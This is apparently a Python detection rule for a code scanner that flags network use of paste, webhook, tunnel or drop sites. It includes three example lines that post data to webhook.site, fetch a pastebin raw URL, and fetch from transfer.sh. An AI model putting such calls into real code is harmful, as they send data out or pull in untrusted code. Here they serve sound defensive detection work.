"""MF-NET-004."""

from __future__ import annotations

from mayfly.scan.facts import NetUse
from mayfly.scan.judge import host_of_kind, shown
from mayfly.scan.rule import Hit, Rule, Scene

__all__ = ["RULE"]


def _check(fact: NetUse, scene: Scene) -> Hit | None:
    if (host := host_of_kind(fact, scene, ("drop",))) is None:
        return None
    if fact.op == "send":
        return Hit(f"sends data to the drop site {shown(host)}", severity="high")
    return Hit(f"uses the drop site {shown(host)}")


RULE = Rule(
    id="MF-NET-004",
    title="Uses a paste, webhook, tunnel or drop site",
    rationale="Anonymous places to leave data at or fetch code from.",
    severity="medium",
    cwe="CWE-506",
    confidence="high",
    capabilities=("net",),
    facts=(NetUse,),
    only={NetUse: ("fetch", "send", "connect", "raw")},
    check=_check,
    examples={
        "python": "import requests\nrequests.post('https://webhook.site/abc', data={'a': 1})",
        "bash": "curl https://pastebin.com/raw/abc",
        "javascript": "fetch('https://transfer.sh/x')",
    },
    near_misses={
        "python": "import requests\nrequests.get('https://example.com/a.json')",
        "bash": "curl https://example.com/a.json",
        "javascript": "fetch('https://example.com/a.json')",
    },
    languages=("python", "bash", "javascript"),
)
